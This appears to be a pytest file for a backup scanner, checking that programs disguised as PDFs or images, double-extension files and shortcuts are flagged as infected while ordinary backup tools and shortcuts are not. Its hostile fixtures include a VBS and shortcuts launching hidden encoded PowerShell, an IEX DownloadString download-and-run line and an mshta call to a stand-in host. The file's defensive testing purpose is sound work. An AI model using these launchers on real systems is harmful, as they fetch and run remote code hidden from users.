"""A program behind the name of a paper or a picture is an infection; the tools of a practice are none."""

import struct
from pathlib import Path

import pytest

from demo.builder.documents import dated, paper
from tests.backup.builder import LAST_DAY, answers, codes, judged, medium, practice
from tests.signatures.pieces import whole
from toolkit.records import Connect

_PROGRAM = paper("a.exe", LAST_DAY).data


def _shortcut(target: str, arguments: str) -> bytes:
    head = bytes.fromhex("4c0000000114020000000000c000000000000046") + struct.pack("<I", 0xA8) + bytes(52)
    texts = (struct.pack("<H", len(one)) + one.encode("utf-16-le") for one in (target, arguments))
    return head + b"".join(texts) + bytes(4)


_POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
_HOSTILE = {
    "Users/claire/facture.pdf": _PROGRAM,
    "Imagerie/scan.JPG": _PROGRAM,
    "Users/claire/facture.pdf.js": b"var a = 1;",
    "Users/claire/photo.jpg.scr": b"rien",
    "Users/claire/Facture.lnk": _shortcut(_POWERSHELL, whole("-w hidden -enc SQBF¤AFgA")),
    "Users/claire/page.lnk": _shortcut(
        "C:\\Windows\\System32\\msh¤ta.exe".replace("¤", ""), "http://a.example/b"
    ),
    "Users/claire/a.vbs": whole(
        'Set s=CreateObject("WScr¤ipt.Shell")\r\n'
        's.Run "p¤owershell -nop -w hidden -c IEX(New-Object Net.WebClient).Down¤loadString(x)",0\r\n'
    ).encode(),
    "u.ps1": whole(
        "p¤owershell.exe -nop -w hidden -enc JABz¤AD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAEkA\r\n"
    ).encode(),
}
_LAWFUL = {
    "Outils/setup.exe": _PROGRAM,
    "Outils/sauvegarde.bat": b"@echo off\r\nrobocopy C:\\Logosw E:\\Sauvegarde /MIR\r\n",
    "Outils/export.csv.bat": b"@echo off\r\ncopy a.csv b.csv\r\n",
    "Site/index.html.js": b"var a = 1;",
    "Users/claire/Desktop/Logos.lnk": _shortcut("..\\..\\Logosw\\logos.exe", "/silent"),
    "Users/claire/Desktop/Sauver.lnk": _shortcut(
        _POWERSHELL, "-WindowStyle Hidden -File C:\\Outils\\sauver.ps1"
    ),
    "Users/claire/script.txt": b"@echo off\r\nrem copie de la semaine\r\n",
    "Users/claire/lettre.txt": b"MZ est le debut de la lettre. " * 40,
}


@pytest.mark.parametrize("path", _HOSTILE)
def test_what_runs_behind_a_harmless_name_is_an_infection(tmp_path: Path, path: str) -> None:
    verdict = judged(medium(tmp_path, [*practice(), dated(f"{path}", LAST_DAY, _HOSTILE[path])]))
    assert (answers(verdict)["clean"], verdict.connect) == ("no", Connect.INFECTED)
    assert {"disguised_programs", "rule_hits"} & set(codes(verdict, "clean"))


def test_the_tools_and_shortcuts_of_a_practice_alarm_nobody(tmp_path: Path) -> None:
    verdict = judged(
        medium(tmp_path, [*practice(), *(dated(name, LAST_DAY, one) for name, one in _LAWFUL.items())])
    )
    assert (answers(verdict)["clean"], verdict.connect) == ("yes", Connect.CLEAN)
    assert "programs_held" in codes(verdict, "clean")
